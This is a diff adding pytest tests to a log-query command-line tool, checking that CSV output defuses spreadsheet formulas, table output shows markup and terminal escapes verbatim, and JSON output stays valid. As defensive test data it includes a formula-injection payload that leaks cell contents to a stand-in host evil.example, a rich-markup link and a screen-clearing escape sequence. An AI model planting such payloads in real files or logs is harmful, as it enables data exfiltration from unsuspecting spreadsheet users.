@@ -133,3 +133,66 @@ def test_entry_point_runs_as_a_program(tmp_path: Path) -> None:
     )
     assert proc.returncode == 2
     assert proc.stderr.strip() == f"error: {empty}: the file is empty"
+
+
+def test_csv_output_neutralises_spreadsheet_formulas(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """A user name `=HYPERLINK(...)` from an auth log comes out of `--format csv` as text, numbers stay numbers."""
+    log = tmp_path / "auth.log"
+    attacker = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+    log.write_text(
+        f"Mar  1 10:00:00 host sshd[1]: Failed password for invalid user {attacker} from 203.0.113.9 port 22 ssh2\n"
+        "Mar  1 10:00:01 host sshd[2]: Failed password for invalid user @SUM(1) from 203.0.113.9 port 22 ssh2\n"
+    )
+    assert _run(["import", "syslog", str(log), "--year", "2024", "-w", str(tmp_path)]) == 0
+    capsys.readouterr()
+    sql = (
+        "SELECT user, -1 AS delta, -2.5 AS score, '+1' AS plus, chr(9) || 'x' AS tab, chr(13) || 'y' AS cr, "
+        "'-5' AS text_minus, 'plain' AS fine FROM auth_events ORDER BY time"
+    )
+    assert _run(["query", sql, "--format", "csv", "-w", str(tmp_path)]) == 0
+    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
+    assert rows[1] == ["'" + attacker, "-1", "-2.5", "'+1", "'\tx", "'\ry", "'-5", "plain"]
+    assert rows[2][0] == "'@SUM(1)"
+
+
+def test_table_output_shows_imported_text_as_it_is(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """A user name with rich markup or a terminal escape prints verbatim; `[/x]` no longer crashes the table."""
+    log = tmp_path / "auth.log"
+    users = ["[/x]", "[link=https://evil.example]support[/link]", "\x1b[2Jwiped"]
+    log.write_text(
+        "".join(
+            f"Mar  1 10:00:0{n} host sshd[1]: Failed password for invalid user {user} from 203.0.113.9 port 22 ssh2\n"
+            for n, user in enumerate(users)
+        )
+    )
+    assert _run(["import", "syslog", str(log), "--year", "2024", "-w", str(tmp_path)]) == 0
+    capsys.readouterr()
+    assert _run(["query", 'SELECT user AS "[/u]" FROM auth_events ORDER BY time', "-w", str(tmp_path)]) == 0
+    out = capsys.readouterr().out
+    assert "[/u]" in out
+    assert "[/x]" in out
+    assert "[link=https://evil.example]support[/link]" in out
+    assert "\\x1b[2Jwiped" in out
+    assert "\x1b" not in out
+
+
+def test_json_output_is_valid_json_for_every_type(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """Intervals, times, UUIDs, NaN and infinities come out of `--format json` as valid JSON, not a traceback."""
+    data = tmp_path / "events.csv"
+    data.write_text(EVENTS)
+    _run(["import", "events", str(data), "-w", str(tmp_path)])
+    capsys.readouterr()
+    sql = (
+        "SELECT max(time) - min(time) AS spread, TIME '10:00' AS t, uuid() IS NOT NULL AS u, "
+        "'nan'::DOUBLE AS n, ['-inf'::DOUBLE] AS l FROM auth_events"
+    )
+    assert _run(["query", sql, "--format", "json", "-w", str(tmp_path)]) == 0
+    assert json.loads(capsys.readouterr().out) == [
+        {"spread": "0:00:01", "t": "10:00:00", "u": True, "n": "NaN", "l": ["-Infinity"]}
+    ]
+    assert _run(["query", "SELECT uuid() AS id", "--format", "json", "-w", str(tmp_path)]) == 0
+    assert len(json.loads(capsys.readouterr().out)[0]["id"]) == 36
